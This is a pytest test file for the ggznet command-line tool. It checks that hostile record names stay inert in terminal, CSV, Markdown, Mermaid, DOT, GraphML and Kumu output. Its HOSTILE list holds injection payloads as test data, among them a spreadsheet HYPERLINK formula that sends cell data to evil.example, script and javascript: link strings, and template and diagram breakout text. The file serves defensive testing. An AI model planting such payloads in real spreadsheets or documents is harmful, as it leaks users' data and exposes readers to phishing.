"""Outputs cannot be hijacked by record text: Rich markup is never read from records (one output layer),
CSV cells that a spreadsheet would run are neutralised (OWASP), and Markdown, Mermaid, DOT, GraphML and
Kumu keep the same hostile strings inert."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
from pathlib import Path

import pytest

from _terminal import run_on_terminal
from conftest import BASE, TODAY, build_tree
from ggznet.cli.output import CsvDialect, Format, Listing, _csv_cell, render_listing

HOSTILE = [
    "[link=https://evil.example]klik hier[/link]",
    "Tafel [/] met [bold red]rood",
    "[/link]",
    '=HYPERLINK("https://evil.example/?d="&A1,"klik")',
    "+31 ook een formule",
    "-2+3 of zo",
    "@SUM(A1:A9)",
    "\tbegint met tab",
    '"aanhalingstekens" en \\ backslash',
    "<script>alert(1)</script>",
    "| pijp | --- |",
    "`code` en ](javascript:alert(1))",
    "{{ 7*7 }} {% if %}",
    "# kop",
    '"] --> n0["inbraak',
    "a;b,c",
]


def _quote(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a valid YAML double-quoted scalar


def _hostile_kb(root: Path) -> Path:
    files = dict(BASE)
    actors = []
    for n, name in enumerate(HOSTILE):
        files[f"data/actors/actor-{n}.yaml"] = (
            f"id: actor-{n}\nname: {_quote(name)}\ntype: overig\nregions: [regio-a]\nsources: [{{title: T}}]\n"
        )
        actors.append(f"  - {{actor: actor-{n}, role: partner}}\n")
    files["data/initiatives/hostile.yaml"] = (
        f"id: hostile\nname: {_quote(HOSTILE[1])}\ntype: project\nstatus: lopend\nregions: [regio-a]\n"
        f"summary: {_quote(' '.join(HOSTILE))}\nactors:\n" + "".join(actors) + "sources: [{title: T}]\n"
    )
    files["data/meetings/2023-09-01-hostile.yaml"] = (
        f"id: 2023-09-01-hostile\ntitle: {_quote(HOSTILE[0])}\ndate: 2023-09-01\ntype: werksessie\n"
        "status: gehouden\nregions: [regio-a]\noutcomes:\n  actions:\n"
        + "".join(
            f"    - {{id: a{n}, what: {_quote(name)}, owner: actor-{n}, due: 2023-10-01}}\n"
            for n, name in enumerate(HOSTILE)
        )
        + "sources: [{title: T}]\n"
    )
    return build_tree(root, files)


@pytest.fixture(scope="module")
def kb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from ggznet.api import KnowledgeBase

    root = _hostile_kb(tmp_path_factory.mktemp("hostile") / "kb")
    assert not KnowledgeBase.open(root).validate().errors
    return root


# -- Rich markup -----------------------------------------------------------------------------------------

COMMANDS = [
    ["list", "actors"],
    ["list", "initiatives"],
    ["list", "meetings"],
    ["search", "tafel"],
    ["show", "hostile"],
    ["show", "actor-0"],
    ["actions", "--as-of", TODAY],
    ["network", "regio-a"],
    ["compare", "regio-a", "regio-b", "--format", "table"],
]


@pytest.mark.parametrize("args", COMMANDS, ids=[" ".join(a[:2]) for a in COMMANDS])
@pytest.mark.parametrize("color", ["NO_COLOR", "FORCE_COLOR"])
def test_record_text_is_never_read_as_rich_markup(cli, kb: Path, args: list[str], color: str) -> None:
    env = {"FORCE_COLOR": "1", "NO_COLOR": ""} if color == "FORCE_COLOR" else {}
    extra = ["--format", "table"] if args[0] in ("list", "search", "actions", "network") else []
    if args[0] == "show":
        extra = ["--format", "text"]
    run = cli(*args, *extra, "--kb", str(kb), env=env)
    assert run.exit_code == 0, run.stderr
    plain = re.sub(r"\x1b\[[0-9;]*m", "", run.stdout)
    assert "\x1b]8;" not in run.stdout, "a record name became a terminal hyperlink"
    assert any(s in plain for s in ("[link=", "[/]", "[bold red]", "[/link]")), "the markup-like text vanished"


def _pty_run(kb: Path, *args: str) -> tuple[int, str]:
    """Run ggznet with its stdout on a pseudo-terminal (the table path a person sees)."""
    env = {**os.environ, "FORCE_COLOR": "1", "COLUMNS": "250", "LINES": "50"}
    env.pop("NO_COLOR", None)
    return run_on_terminal(*args, "--kb", str(kb), env=env)


@pytest.mark.skipif(not hasattr(os, "openpty"), reason="needs a pseudo-terminal")
@pytest.mark.parametrize("args", [["list", "actors"], ["search", "tafel"], ["show", "hostile"]])
def test_on_a_terminal_names_stay_text(kb: Path, args: list[str]) -> None:
    code, text = _pty_run(kb, *args)
    assert code == 0, text[-2000:]
    assert "\x1b]8;" not in text
    assert "[/]" in re.sub(r"\x1b\[[0-9;]*m", "", text)


def test_an_edit_whose_text_looks_like_markup_commits_and_exits_0(cli, make_kb) -> None:
    root = make_kb()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    git = ["git", "-C", str(root), "-c", "user.name=T", "-c", "user.email=t@example.org"]
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "start"], check=True)
    for value in ("Tafel [/] nieuw", "[link=https://evil.example]x[/link]", "[bold]vet"):
        run = cli("set", "tafel-a", "name", value, "--commit", "--kb", str(root), env={"GIT_AUTHOR_NAME": "T"})
        assert run.exit_code == 0, run.stderr
        assert value in run.stderr


def test_error_messages_with_markup_are_printed_as_they_are(cli, make_kb) -> None:
    run = cli("show", "[/]", "--kb", str(make_kb()))
    assert run.exit_code == 2 and "[/]" in run.stderr


# -- CSV and spreadsheets --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
        ('=HYPERLINK("x")', "'=HYPERLINK(\"x\")"), ("gewoon", "gewoon"), ("a=b", "a=b"), (-5, "-5"), (2.5, "2.5"),
        (["=a", "b"], "'=a; b"), (None, ""),
    ],
)  # fmt: skip
def test_spreadsheet_cells_are_neutralised(value: object, cell: str) -> None:
    assert _csv_cell(value, CsvDialect.standard) == cell


def test_csv_listing_reads_back_with_every_formula_neutralised() -> None:
    listing = Listing(["name", "n"], [{"name": h, "n": -i} for i, h in enumerate(HOSTILE)])
    rows = list(csv.reader(io.StringIO(render_listing(listing, Format.csv))))
    assert rows[0] == ["name", "n"]
    for (name, number), original in zip(rows[1:], HOSTILE, strict=True):
        assert not name.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert name == ("'" + original if original.startswith(("=", "+", "-", "@", "\t")) else original)
        assert re.fullmatch(r"-?\d+", number)


def test_csv_files_from_every_command_are_neutralised(cli, kb: Path, tmp_path: Path) -> None:
    outputs = []
    for args in (["list", "actors"], ["search", "klik"], ["actions", "--as-of", TODAY], ["network", "regio-a"]):
        target = tmp_path / f"{args[0]}.csv"
        assert cli(*args, "--kb", str(kb), "-o", str(target)).exit_code == 0
        outputs.append(target)
    assert cli("graph", "--kb", str(kb), "-o", str(tmp_path / "kumu.csv")).exit_code == 0
    outputs += [tmp_path / "kumu-elements.csv", tmp_path / "kumu-connections.csv"]
    for path in outputs:
        text = path.read_text(encoding="utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), (path.name, cell)
    assert "'=HYPERLINK" in (tmp_path / "kumu-elements.csv").read_text(encoding="utf-8-sig")


# -- Markdown, Mermaid, DOT, GraphML, Kumu ------------------------------------------------------------


def test_markdown_report_and_briefing_stay_inert(kb: Path) -> None:
    import datetime as dt

    from ggznet.api import KnowledgeBase, RenderOptions, briefing, report
    from test_report import assert_valid_markdown

    knowledge_base = KnowledgeBase.open(kb)
    options = RenderOptions(as_of=dt.date.fromisoformat(TODAY), commit="X", history=False)
    for text in (report(knowledge_base, "regio-a", options), briefing(knowledge_base, "2023-09-01-hostile", options)):
        assert_valid_markdown(text)
        from markdown_it import MarkdownIt

        tokens = MarkdownIt("commonmark").enable("table").parse(text)
        inline = [t for tok in tokens for t in (tok.children or [])]
        html = [t.content for t in [*tokens, *inline] if t.type in ("html_block", "html_inline")]
        assert all(h.startswith("<!-- ggznet ") for h in html), html  # only ggznet's own header comment
        hrefs = [str(t.attrs.get("href")) for t in inline if t.type == "link_open"]
        assert not [h for h in hrefs if "evil" in h or "javascript" in h], hrefs


def test_show_markdown_stays_inert(cli, kb: Path) -> None:
    from markdown_it import MarkdownIt

    text = cli("show", "hostile", "--kb", str(kb), "--format", "md").stdout
    tokens = MarkdownIt("commonmark").parse(text)
    assert not [t for t in tokens if t.type in ("html_block", "fence", "table_open")]
    assert not [c for t in tokens for c in (t.children or []) if c.type in ("link_open", "html_inline")]


def test_mermaid_labels_cannot_break_out(cli, kb: Path) -> None:
    text = cli("graph", "--kb", str(kb), "--format", "mermaid").stdout
    lines = text.splitlines()
    assert lines[0] == "flowchart LR"
    label = r'"[^"\[\]{}|`]*"'
    node = re.compile(rf"  n\d+(\[/{label}/\]|\(\[{label}\]\)|\[{label}\]|\{{\{{{label}\}}\}})")
    edge = re.compile(r'  n\d+ -->\|"[^"|]*"\| n\d+')
    for line in lines[1:]:
        assert node.fullmatch(line) or edge.fullmatch(line), line


def test_dot_strings_are_well_formed(cli, kb: Path) -> None:
    text = cli("graph", "--kb", str(kb), "--format", "dot").stdout
    quoted = r'"(?:[^"\\\n]|\\.)*"'
    statement = re.compile(
        rf"  {quoted} \[label={quoted}, shape=\w+\];|  {quoted} -> {quoted} \[label={quoted}\];|  rankdir=LR;"
        r"|  node \[fontname=Helvetica\];"
    )
    lines = text.splitlines()
    assert lines[0] == "digraph ggznet {" and lines[-1] == "}"
    for line in lines[1:-1]:
        assert statement.fullmatch(line), line


def test_graphml_and_kumu_give_back_the_names_exactly(cli, kb: Path, tmp_path: Path) -> None:
    import networkx as nx

    assert cli("graph", "--kb", str(kb), "-o", str(tmp_path / "g.graphml")).exit_code == 0
    g = nx.read_graphml(tmp_path / "g.graphml")
    labels = {d["label"] for _, d in g.nodes(data=True)}
    kumu = json.loads(cli("graph", "--kb", str(kb), "--format", "json").stdout)
    for name in HOSTILE:
        assert name in labels
        assert name in {e["label"] for e in kumu["elements"]}


def test_a_refused_character_shows_as_an_escape_in_markdown(cli, make_kb) -> None:
    """A record `validate` refuses for a bidi override still reaches a report made anyway: the override is
    shown as `\\u202e` there, never left to reorder what a reader of the briefing or overview sees."""
    from ggznet.render.markdown import escape_block, escape_inline

    assert escape_inline("Menzis\u202e esrever") == "Menzis\\\\u202e esrever"
    assert escape_block("Alinea\u2066 een\n\ntwee\u200b") == "Alinea\\\\u2066 een\n\ntwee\\\\u200b"
    assert escape_inline("Zorggroep Één – Noord") == "Zorggroep Één – Noord"  # letters and dashes stay
    name = "ROS A\u202e sgnidnev"
    root = make_kb({"data/actors/ros-a.yaml": f'id: ros-a\nname: "{name}"\ntype: ros\nregions: [regio-a]\n'
                    "sources: [{title: T}]\n"})  # fmt: skip
    result = cli("report", "regio-a", "--kb", str(root), "--as-of", TODAY, "--raw")
    assert "ROS A\\\\u202e sgnidnev" in result.stdout
    assert "\u202e" not in result.stdout
